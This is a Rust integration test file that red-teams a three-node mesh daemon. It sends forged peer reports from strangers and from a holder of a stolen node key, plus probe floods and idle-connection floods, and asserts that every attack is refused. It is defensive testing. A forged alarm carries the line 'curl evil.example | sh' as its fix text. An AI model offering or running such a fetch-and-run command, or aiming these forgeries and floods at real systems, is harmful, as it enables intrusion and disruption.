//! The red team of issue 14: a healthy 3-node mesh (the demo's harness:
//! real nodes in this process, mutual TLS with the mesh's own CA, report
//! streams over the management network and every cable) is attacked the
//! way a stranger on the management network, or a thief of one node's
//! key, would. Each attack must be refused by name (a failed handshake, a
//! `RejectReason` in the reply and in `meshd_reports_rejected_total`, or
//! silence from the probe responder), and afterwards every node must still
//! say what it said before: every node and link up, no alarm, no event, no
//! peer's incarnation changed.
//!
//! Hostile bundles for `meshctl doctor --from` are attacked through the
//! binary in `ctl/tests/platform.rs` and at the library in
//! `platform/tests/hostile_bundles.rs`; the wire's field checks one by one
//! in `proto/src/convert` unit tests. Here they are sent to a live node.
//!
//! Each test holds the machine-wide test lock and runs in the nextest
//! `mesh` group; waits are generous bounds on behaviour, never speed.

mod common;

use std::collections::BTreeMap;
use std::net::SocketAddr;
use std::sync::Arc;
use std::time::{Duration, SystemTime};

use meshd::demo::Demo;
use meshd::demo::plan::Plan;
use meshd::transport::streams::{Route, channel};
use meshd::transport::tls::MeshTls;
use meshd_domain::{
    Alarm, AlarmKind, Event, EventDetail, Incarnation, LinkState, MeshStatus, NodeId, NodeIdentity,
    NodeLoad, NodeState, PeerMessage, ReportUpdate, Severity, StreamOpen,
};
use meshd_model::linkstats::RTT_BOUNDS;
use meshd_proto::wire;
use meshd_proto::wire::mesh_client::MeshClient;
use meshd_proto::wire::peer_client::PeerClient;
use rustls::pki_types::{CertificateDer, PrivateKeyDer, PrivatePkcs8KeyDer};
use tokio_stream::StreamExt;

const SETTLE: Duration = Duration::from_secs(20);
/// Long enough for a believed forgery to show in a verdict: the engine
/// looks at least every `MAX_LOOK_INTERVAL` and a report arrives every
/// second.
const AFTERMATH: Duration = Duration::from_secs(3);
/// Any one attack ends (refused, or the stream closed) within this.
const ATTACK: Duration = Duration::from_secs(15);

/// Alarms about this host's own load: the in-process mesh shares two
/// loaded cores with the test, so its timers may run late. Nothing a peer
/// sends raises them, so they are not what an attack is judged by.
const HOST_LOAD: [AlarmKind; 2] = [AlarmKind::MeshSaturated, AlarmKind::CpuSpike];

fn all_up(s: &MeshStatus) -> bool {
    s.quorum.has_quorum
        && s.nodes.len() == 3
        && s.links.len() == 3
        && s.nodes.iter().all(|n| n.state == NodeState::Up)
        && s.links.iter().all(|l| l.state == LinkState::Up)
        && s.alarms.iter().all(|a| HOST_LOAD.contains(&a.kind))
}

/// An event about this host's load (see [`HOST_LOAD`]).
fn host_load(event: &wire::Event) -> bool {
    matches!(
        Event::try_from(event.clone()).map(|e| e.detail),
        Ok(Some(EventDetail::Alarm(alarm))) if HOST_LOAD.contains(&alarm.kind)
    )
}

/// Every node's view of every member's incarnation: a forgery that was
/// believed as a restart shows here.
fn incarnations(demo: &Demo) -> BTreeMap<(String, String), Option<u64>> {
    (0..3)
        .filter_map(|i| demo.node(i))
        .flat_map(|node| {
            let status = node.state.current();
            status
                .nodes
                .iter()
                .map(|n| {
                    (
                        (status.node.id.to_string(), n.id.to_string()),
                        n.identity.as_ref().map(|i| i.incarnation.0),
                    )
                })
                .collect::<Vec<_>>()
        })
        .collect()
}

/// A healthy mesh, the incarnations every node holds, and an event
/// stream from every node (nothing may arrive on them).
struct Healthy {
    demo: Demo,
    plan: Plan,
    incarnations: BTreeMap<(String, String), Option<u64>>,
    events: Vec<tonic::Streaming<wire::Event>>,
}

impl Healthy {
    async fn start() -> Healthy {
        let (demo, plan) = common::start_demo(3).await;
        let deadline = tokio::time::Instant::now() + SETTLE;
        loop {
            let statuses: Vec<Arc<MeshStatus>> = (0..3)
                .filter_map(|i| demo.node(i))
                .map(|n| n.state.current())
                .collect();
            if statuses.iter().all(|s| all_up(s)) {
                break;
            }
            assert!(
                tokio::time::Instant::now() < deadline,
                "the mesh never settled: {statuses:#?}"
            );
            tokio::time::sleep(Duration::from_millis(100)).await;
        }
        let mut events = Vec::new();
        for node in &plan.nodes {
            let mut client = MeshClient::new(common::channel(node.grpc()).await);
            let mut stream = client
                .watch_events(wire::WatchEventsRequest {})
                .await
                .expect("watch events")
                .into_inner();
            // Every watch opens with the status it follows; what comes
            // after it is a change.
            let opening = stream.next().await;
            assert!(
                matches!(&opening, Some(Ok(e)) if e.kind() == wire::EventKind::Snapshot),
                "node {}'s watch opened with {opening:?}",
                node.id
            );
            events.push(stream);
        }
        let incarnations = incarnations(&demo);
        Healthy {
            demo,
            plan,
            incarnations,
            events,
        }
    }

    /// Every node still all up with no alarm, nobody's incarnation moved,
    /// and no event anywhere since the mesh settled: `after` names the
    /// attack.
    async fn assert_unchanged(&mut self, after: &str) {
        tokio::time::sleep(AFTERMATH).await;
        for i in 0..3 {
            let status = self.demo.node(i).expect("running").state.current();
            assert!(all_up(&status), "after {after}: {status:#?}");
        }
        assert_eq!(
            incarnations(&self.demo),
            self.incarnations,
            "after {after}: an incarnation changed"
        );
        for (node, events) in self.plan.nodes.iter().zip(&mut self.events) {
            loop {
                match tokio::time::timeout(Duration::from_millis(100), events.next()).await {
                    Err(_) => break,
                    Ok(Some(Ok(event))) if host_load(&event) => {}
                    Ok(other) => panic!("after {after}: node {} announced {other:?}", node.id),
                }
            }
        }
    }

    fn target(&self) -> SocketAddr {
        self.plan.nodes[0].mesh().expect("a mesh listener")
    }

    /// `b`'s identity as node a holds it: what its own key could claim.
    fn identity_of_b(&self) -> NodeIdentity {
        let status = self.demo.node(0).expect("a runs").state.current();
        status
            .nodes
            .iter()
            .find(|n| n.id.as_str() == "b")
            .and_then(|n| n.identity.clone())
            .expect("a knows b's identity")
    }

    /// Waits until a exports `expected` refusals for `reason` (the
    /// counters are published when a next evaluates), and fails with the
    /// count it shows otherwise.
    async fn assert_rejected(&self, reason: &str, expected: u64) {
        let deadline = tokio::time::Instant::now() + ATTACK;
        loop {
            let count = self.rejected(reason).await;
            if count == expected {
                return;
            }
            assert!(
                count < expected && tokio::time::Instant::now() < deadline,
                "meshd_reports_rejected_total{{reason=\"{reason}\"}} is {count}, not {expected}"
            );
            tokio::time::sleep(Duration::from_millis(100)).await;
        }
    }

    /// A's count of refusals for `reason` ("not_authenticated", ...).
    async fn rejected(&self, reason: &str) -> u64 {
        let (_, body) = common::http_get(self.plan.nodes[0].metrics(), "/metrics").await;
        let series = format!("meshd_reports_rejected_total{{reason=\"{reason}\"}} ");
        body.lines()
            .find_map(|l| l.strip_prefix(&series))
            .map_or(0, |v| v.trim().parse().expect("a counter"))
    }
}

fn pem_blocks(path: &std::path::Path) -> Vec<pem::Pem> {
    pem::parse_many(std::fs::read(path).expect("pem file")).expect("pem")
}

/// The client side of an attacker: trusts the mesh's real CA (so it talks
/// to the real node) and presents `identity` (certificate and key files),
/// or no certificate at all.
fn attacker(
    ca: &std::path::Path,
    identity: Option<(&std::path::Path, &std::path::Path)>,
) -> MeshTls {
    let provider = Arc::new(rustls_graviola::default_provider());
    let mut roots = rustls::RootCertStore::empty();
    for block in pem_blocks(ca) {
        roots
            .add(CertificateDer::from(block.into_contents()))
            .expect("ca");
    }
    let builder = rustls::ClientConfig::builder_with_provider(provider)
        .with_safe_default_protocol_versions()
        .expect("versions")
        .with_root_certificates(roots);
    let mut client = match identity {
        None => builder.with_no_client_auth(),
        Some((cert, key)) => {
            let chain = pem_blocks(cert)
                .into_iter()
                .map(|b| CertificateDer::from(b.into_contents()))
                .collect();
            let key = pem_blocks(key).remove(0).into_contents();
            builder
                .with_client_auth_cert(chain, PrivateKeyDer::Pkcs8(PrivatePkcs8KeyDer::from(key)))
                .expect("client identity")
        }
    };
    client.alpn_protocols = vec![b"h2".to_vec()];
    // The server half is never used by an attacker that only dials.
    let dir = tempfile::tempdir().expect("tempdir");
    let (certs, pair) = common::issue_certificates(dir.path(), "x");
    let read = |p: &std::path::Path| std::fs::read_to_string(p).expect("pem");
    let unused = MeshTls::from_pem(
        &read(&certs.ca().cert),
        &read(&pair.cert),
        &read(&pair.key),
        &NodeId::new("x").expect("id"),
    )
    .expect("tls");
    unused.with_client(Arc::new(client))
}

/// The holder of node `node`'s own certificate and key.
fn thief_of(plan: &Plan, node: &str) -> MeshTls {
    let dir = meshd_pki::store::CertDir::new(&plan.certs);
    let pair = dir.node(node);
    attacker(&dir.ca().cert, Some((&pair.cert, &pair.key)))
}

/// Opens a `Peer/Stream` to node a at `target` as `tls`, sends `messages`
/// and half-closes, and returns every reply until a ends the stream; or
/// why there was no stream (handshake, transport or gRPC status).
async fn attack(
    tls: &MeshTls,
    target: SocketAddr,
    messages: Vec<wire::PeerMessage>,
) -> Result<Vec<wire::PeerReply>, String> {
    let route = Route {
        peer: NodeId::new("a").expect("id"),
        path: "red team".to_owned(),
        address: target.to_string(),
    };
    let run = async {
        let channel = channel(&route, Some(tls)).await?;
        let mut client = PeerClient::new(channel);
        let mut replies = client
            .stream(tokio_stream::iter(messages))
            .await
            .map_err(|s| format!("{:?}: {}", s.code(), s.message()))?
            .into_inner();
        let mut got = Vec::new();
        loop {
            match replies.message().await {
                Ok(Some(reply)) => got.push(reply),
                Ok(None) => return Ok(got),
                Err(s) if got.is_empty() => {
                    return Err(format!("{:?}: {}", s.code(), s.message()));
                }
                // A refusal, then the connection went: the refusal counts.
                Err(_) => return Ok(got),
            }
        }
    };
    tokio::time::timeout(ATTACK, run)
        .await
        .unwrap_or_else(|_| Err("the attack hung".to_owned()))
}

/// The TLS alert node a ends a handshake from `tls` with: in TLS 1.3 the
/// client's side completes first, and the server's verdict on the client's
/// certificate arrives as an alert on the first read.
async fn handshake_alert(tls: &MeshTls, target: SocketAddr) -> String {
    use tokio::io::AsyncReadExt;
    let a = NodeId::new("a").expect("id");
    let outcome = async {
        let mut stream = tls.connect(&a, target).await?;
        let mut byte = [0u8; 1];
        stream.read(&mut byte).await
    };
    match tokio::time::timeout(ATTACK, outcome).await {
        Ok(Err(error)) => error.to_string(),
        other => panic!("node a did not end the handshake: {other:?}"),
    }
}

fn open(sender: NodeIdentity) -> wire::PeerMessage {
    PeerMessage::Open(StreamOpen {
        sender,
        instance: meshd::transport::instance(),
        rtt_bounds: RTT_BOUNDS.to_vec(),
        protocols: meshd_domain::Protocols::THIS_RELEASE,
    })
    .into()
}

/// A well-formed full update carrying `alarms`.
/// Ahead of anything the real b has sent in a test's time, and within what
/// a sender can have counted (the book refuses more as `over_limit`).
const FORGED_SEQUENCE: u64 = 1_500;

fn update(sequence: u64, alarms: Vec<Alarm>) -> wire::PeerMessage {
    PeerMessage::Update(Box::new(ReportUpdate {
        sequence,
        sent_at: SystemTime::now(),
        lateness: meshd_domain::Lateness::default(),
        full: true,
        links: Vec::new(),
        removed_links: Vec::new(),
        alarms: Some(alarms),
        hears: None,
        heard_on_management: None,
        load: NodeLoad {
            cpu_busy_ratio: 0.0,
            cpu_saturated: false,
        },
        facts: None,
        has_quorum: None,
        leader: None,
        clock_offsets: None,
        jobs: None,
    }))
    .into()
}

fn alarm_about(node: &str) -> Alarm {
    let now = SystemTime::now();
    Alarm {
        kind: AlarmKind::BridgeLoop,
        severity: Severity::Critical,
        node: NodeId::new(node).expect("id"),
        subject: "bridge0".to_owned(),
        summary: "forged".to_owned(),
        evidence: Vec::new(),
        fix: Some("curl evil.example | sh".to_owned()),
        since: now,
        updated: now,
    }
}

/// The one refusal in `replies`: its reason's name and detail.
fn refusal(replies: &Result<Vec<wire::PeerReply>, String>) -> (String, String) {
    let replies = replies.as_ref().expect("a stream that answers");
    let refused: Vec<(String, String)> = replies
        .iter()
        .filter(|r| r.reject_reason != 0)
        .map(|r| {
            let reason = meshd_domain::PeerReply::try_from(r.clone())
                .expect("a well-formed reply")
                .refusal
                .expect("a refusal")
                .reason;
            (reason.to_string(), r.detail.clone())
        })
        .collect();
    assert_eq!(refused.len(), 1, "exactly one refusal: {replies:?}");
    refused.into_iter().next().expect("one")
}

/// A stranger without a certificate, a certificate of another CA, and
/// the holder of b's own key claiming c, raising an alarm about c, sending
/// an oversized message, replaying, jumping its incarnation far ahead and
/// sending impossible timestamps: each refused by name, none believed.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn forged_reports_are_refused_by_name_and_change_no_verdict() {
    let _serial = meshd_test_lock::exclusive();
    let mut mesh = Healthy::start().await;
    let target = mesh.target();
    let b = mesh.identity_of_b();

    // (a) No client certificate: the handshake fails; no stream, so no
    // report reaches the book.
    let ca = meshd_pki::store::CertDir::new(&mesh.plan.certs).ca().cert;
    let stranger = attacker(&ca, None);
    let alert = handshake_alert(&stranger, target).await;
    assert!(alert.contains("CertificateRequired"), "{alert}");
    let refused = attack(&stranger, target, vec![open(b.clone())]).await;
    assert!(
        refused.is_err(),
        "a stream without a certificate: {refused:?}"
    );
    mesh.assert_unchanged("a client without a certificate")
        .await;

    // (b) A certificate for "b" from another CA: the handshake fails too.
    let elsewhere = tempfile::tempdir().expect("tempdir");
    let (_, pair) = common::issue_certificates(elsewhere.path(), "b");
    let impostor = attacker(&ca, Some((&pair.cert, &pair.key)));
    let alert = handshake_alert(&impostor, target).await;
    assert!(alert.contains("UnknownCA"), "{alert}");
    let refused = attack(&impostor, target, vec![open(b.clone())]).await;
    assert!(
        refused.is_err(),
        "a stream with another CA's certificate: {refused:?}"
    );
    mesh.assert_unchanged("a certificate of another CA").await;

    // (c) b's own key, claiming to be c.
    let thief = thief_of(&mesh.plan, "b");
    let mut c = b.clone();
    c.id = NodeId::new("c").expect("id");
    let before = mesh.rejected("not_authenticated").await;
    let (reason, detail) = refusal(&attack(&thief, target, vec![open(c)]).await);
    assert_eq!(reason, "not_authenticated", "{detail}");
    assert_eq!(detail, "the certificate is b's, the stream claims c");
    mesh.assert_rejected("not_authenticated", before + 1).await;
    mesh.assert_unchanged("b's certificate claiming c").await;

    // (c) b's own key and identity, raising a critical alarm about c.
    let replies = attack(
        &thief,
        target,
        vec![
            open(b.clone()),
            update(FORGED_SEQUENCE, vec![alarm_about("c")]),
        ],
    )
    .await;
    let (reason, detail) = refusal(&replies);
    assert_eq!(reason, "foreign_alarm", "{detail}");
    assert_eq!(detail, "alarms[0]: b raises an alarm about c");
    mesh.assert_unchanged("b's alarm about c").await;

    // (d) An update past the 256 KiB message cap.
    let mut huge = update(FORGED_SEQUENCE, vec![alarm_about("b")]);
    if let Some(wire::peer_message::Body::Update(u)) = &mut huge.body {
        let alarms = &mut u.alarms.as_mut().expect("alarms").alarms;
        alarms[0].evidence = vec!["x".repeat(1024); 300];
    }
    let before = mesh.rejected("over_limit").await;
    let (reason, detail) = refusal(&attack(&thief, target, vec![open(b.clone()), huge]).await);
    assert_eq!(reason, "over_limit", "{detail}");
    assert!(detail.contains("262144"), "names the cap: {detail}");
    mesh.assert_rejected("over_limit", before + 1).await;
    mesh.assert_unchanged("an oversized update").await;

    // (e) A replay: b's incarnation and an update a already applied. It is
    // taken as the same update arriving on another path: not refused, not
    // applied again.
    let replies = attack(
        &thief,
        target,
        vec![open(b.clone()), update(1, vec![alarm_about("b")])],
    )
    .await
    .expect("a stream");
    assert!(
        replies.iter().all(|r| r.reject_reason == 0),
        "a replay is ignored, not refused: {replies:?}"
    );
    mesh.assert_unchanged("a replayed update").await;

    // (e) Incarnations no clock can give: a real b would be locked out if
    // one were believed.
    for incarnation in [u64::MAX, b.incarnation.0 + 2 * 24 * 3600 * 1_000_000_000] {
        let mut ahead = b.clone();
        ahead.incarnation = Incarnation(incarnation);
        let (reason, detail) = refusal(&attack(&thief, target, vec![open(ahead)]).await);
        assert_eq!(reason, "incarnation_ahead", "{detail}");
        assert!(detail.contains(&incarnation.to_string()), "{detail}");
    }
    mesh.assert_unchanged("far-future incarnations").await;

    // (f) Timestamps outside 1970-9999, in the update and in an alarm.
    let extremes = [
        (-1, "before 1970"),
        (i64::MIN, "before 1970"),
        (253_402_300_800, "after 9999"),
        (i64::MAX, "after 9999"),
    ];
    for (seconds, problem) in extremes {
        for field in ["sent_at", "alarms.alarms[0].since"] {
            let mut message = update(FORGED_SEQUENCE, vec![alarm_about("b")]);
            if let Some(wire::peer_message::Body::Update(u)) = &mut message.body {
                let stamp = match field {
                    "sent_at" => u.sent_at.as_mut(),
                    _ => u.alarms.as_mut().expect("alarms").alarms[0].since.as_mut(),
                };
                let stamp = stamp.expect("a timestamp");
                stamp.seconds = seconds;
                stamp.nanos = 0;
            }
            let (reason, detail) =
                refusal(&attack(&thief, target, vec![open(b.clone()), message]).await);
            assert_eq!(reason, "malformed", "{field} = {seconds}: {detail}");
            assert!(
                detail.starts_with(&format!("{field}: ")) && detail.contains(problem),
                "{field} = {seconds}: {detail}"
            );
        }
    }
    mesh.assert_unchanged("timestamps outside 1970-9999").await;

    // (g) b's own key raising what only a node's peers may raise: a kernel
    // panic of a member whose run a did not see change, and of a host that
    // is no member. Both are dropped and counted; the rest of the update
    // stands; no alarm, label or page names either.
    let panic_of = |node: &str| Alarm {
        kind: AlarmKind::KernelPanic,
        ..alarm_about(node)
    };
    let before = mesh.rejected("foreign_alarm").await;
    let replies = attack(
        &thief,
        target,
        vec![
            open(b.clone()),
            update(FORGED_SEQUENCE, vec![panic_of("c"), panic_of("ceo-laptop")]),
        ],
    )
    .await
    .expect("a stream");
    assert!(
        replies.iter().all(|r| r.reject_reason == 0),
        "the update stands without them: {replies:?}"
    );
    mesh.assert_rejected("foreign_alarm", before + 2).await;
    tokio::time::sleep(AFTERMATH).await;
    for i in 0..3 {
        let status = mesh.demo.node(i).expect("running").state.current();
        assert!(
            status
                .alarms
                .iter()
                .all(|a| a.kind != AlarmKind::KernelPanic),
            "{:#?}",
            status.alarms
        );
    }
    let (_, metrics) = common::http_get(mesh.plan.nodes[0].metrics(), "/metrics").await;
    assert!(
        !metrics.contains("ceo-laptop"),
        "a non-member became a label"
    );
    mesh.demo.stop().await;
}

/// The holder of b's key says b hears c (an update ahead of the real b's,
/// so a keeps it), then c is killed: a calls c down all the same, with
/// the hearsay named in its evidence, within the usual time and the
/// hearsay delay. One member's word is not liveness.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn an_insider_saying_it_hears_a_dead_node_cannot_keep_it_up() {
    let _serial = meshd_test_lock::exclusive();
    let mut mesh = Healthy::start().await;
    let target = mesh.target();
    let b = mesh.identity_of_b();
    let thief = thief_of(&mesh.plan, "b");
    let mut lie = update(FORGED_SEQUENCE, Vec::new());
    if let Some(wire::peer_message::Body::Update(u)) = &mut lie.body {
        u.hears = Some(wire::NodeList {
            ids: vec!["a".to_owned(), "c".to_owned()],
        });
    }
    let replies = attack(&thief, target, vec![open(b), lie])
        .await
        .expect("a stream");
    assert!(replies.iter().all(|r| r.reject_reason == 0), "{replies:?}");

    let reply = mesh.demo.execute("kill c").await.reply.unwrap_or_default();
    assert!(reply.starts_with("ok"), "{reply}");
    let deadline = tokio::time::Instant::now() + Duration::from_secs(15);
    loop {
        let status = mesh.demo.node(0).expect("a runs").state.current();
        let c = status
            .nodes
            .iter()
            .find(|n| n.id.as_str() == "c")
            .expect("c");
        if c.state == NodeState::Down {
            assert!(
                c.evidence.iter().any(|e| e.contains("heard by b only")),
                "the lie is named: {c:?}"
            );
            break;
        }
        assert!(
            tokio::time::Instant::now() < deadline,
            "c never went down on a: {c:?}"
        );
        tokio::time::sleep(Duration::from_millis(100)).await;
    }
    mesh.demo.stop().await;
}

/// One of node a's responder counters for its cable end `end`.
/// Node a's responders' datagrams by `outcome`, summed over its cable ends
/// (the metric is per node).
async fn responder_count(mesh: &Healthy, outcome: &str) -> u64 {
    let (_, body) = common::http_get(mesh.plan.nodes[0].metrics(), "/metrics").await;
    let series = format!("meshd_probe_responder_datagrams_total{{outcome=\"{outcome}\"}} ");
    body.lines()
        .find_map(|l| l.strip_prefix(&series))
        .map_or(0, |v| v.trim().parse().expect("a counter"))
}

/// What a's responders dropped: not a probe, or over budget.
async fn responder_dropped(mesh: &Healthy) -> u64 {
    responder_count(mesh, "invalid").await + responder_count(mesh, "rate_limited").await
}

/// Strangers flood node a's probe port on its cable to b with valid
/// probe requests, small and MTU-sized, from an unconfigured port and a
/// loopback alias: nothing is answered and nothing reaches the responder
/// (its socket is connected to the cable's peer, so the kernel drops the
/// rest), the real peer's probes are still answered, and no verdict moves.
/// Then hundreds of TCP connections that never speak are held open on
/// a's mesh listener, past its connection cap: the read-only local
/// listener still answers status (what `meshctl status` asks) all along,
/// and no verdict moves; a silent connection to the local listener is
/// closed.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn floods_of_stranger_probes_and_idle_connections_change_no_verdict() {
    use meshd::probe::ProbeClass;
    use meshd::probe::packet::{self, Header};
    let _serial = meshd_test_lock::exclusive();
    let mut mesh = Healthy::start().await;
    let a = &mesh.plan.nodes[0].config;
    let end = a
        .links
        .iter()
        .find(|l| l.peer.as_str() == "b")
        .expect("a's cable to b")
        .local_probe_addr(&a.probe);

    // (g) The probe flood.
    let answered = responder_count(&mesh, "answered").await;
    let dropped_before = responder_dropped(&mesh).await;
    let mut strangers = vec![
        tokio::net::UdpSocket::bind("127.0.0.1:0")
            .await
            .expect("bind"),
    ];
    // 127.0.0.2 is on loopback wherever all of 127/8 is (Linux); macOS
    // has only 127.0.0.1 unless root adds an alias.
    if let Ok(alias) = tokio::net::UdpSocket::bind("127.0.0.2:0").await {
        strangers.push(alias);
    }
    let mut buffer = vec![0u8; 9000];
    let small = packet::encode(&Header::request(ProbeClass::Small, 1), &[], 64, &mut buffer)
        .expect("a small probe")
        .to_vec();
    let large = packet::encode(&Header::request(ProbeClass::Mtu, 2), &[], 8972, &mut buffer)
        .expect("an MTU probe")
        .to_vec();
    for _ in 0..20 {
        for stranger in &strangers {
            for _ in 0..250 {
                stranger.send_to(&small, end).await.expect("send");
            }
            stranger.send_to(&large, end).await.expect("send");
        }
        tokio::time::sleep(Duration::from_millis(100)).await;
    }
    for stranger in &strangers {
        let mut reply = [0u8; 128];
        let silence =
            tokio::time::timeout(Duration::from_millis(500), stranger.recv(&mut reply)).await;
        assert!(silence.is_err(), "a stranger was answered");
    }
    mesh.assert_unchanged("a probe flood from strangers").await;
    assert_eq!(
        responder_dropped(&mesh).await,
        dropped_before,
        "the strangers' datagrams reached the responder"
    );
    assert!(
        responder_count(&mesh, "answered").await > answered,
        "b's probes are still answered"
    );

    // (h) The idle connection flood, well past the listener's cap.
    let target = mesh.target();
    let mut idle = Vec::new();
    for _ in 0..3 * meshd::transport::tls::MAX_CONNECTIONS {
        idle.push(
            tokio::net::TcpStream::connect(target)
                .await
                .expect("connect"),
        );
    }
    // Held past the handshake deadline, so the listener cycles through
    // them while the peers' streams carry on.
    let mut local = MeshClient::new(common::channel(mesh.plan.nodes[0].grpc()).await);
    let held = tokio::time::Instant::now() + meshd::transport::tls::HANDSHAKE_TIMEOUT * 2;
    while tokio::time::Instant::now() < held {
        let status = tokio::time::timeout(ATTACK, local.get_status(wire::GetStatusRequest {}))
            .await
            .expect("status answers during the flood")
            .expect("status");
        let status = MeshStatus::try_from(status.into_inner()).expect("well-formed");
        assert!(all_up(&status), "during the flood: {status:#?}");
        tokio::time::sleep(Duration::from_millis(500)).await;
    }
    mesh.assert_unchanged("an idle connection flood").await;
    drop(idle);

    // The local listener closes a connection that does not speak, so idle
    // ones cannot pile up there either.
    use tokio::io::AsyncReadExt;
    let mut silent = tokio::net::TcpStream::connect(mesh.plan.nodes[0].grpc())
        .await
        .expect("connect");
    let mut byte = [0u8; 1];
    let closed = tokio::time::timeout(ATTACK, silent.read(&mut byte)).await;
    assert!(
        matches!(closed, Ok(Ok(0)) | Ok(Err(_))),
        "a silent local connection is closed: {closed:?}"
    );
    mesh.demo.stop().await;
}
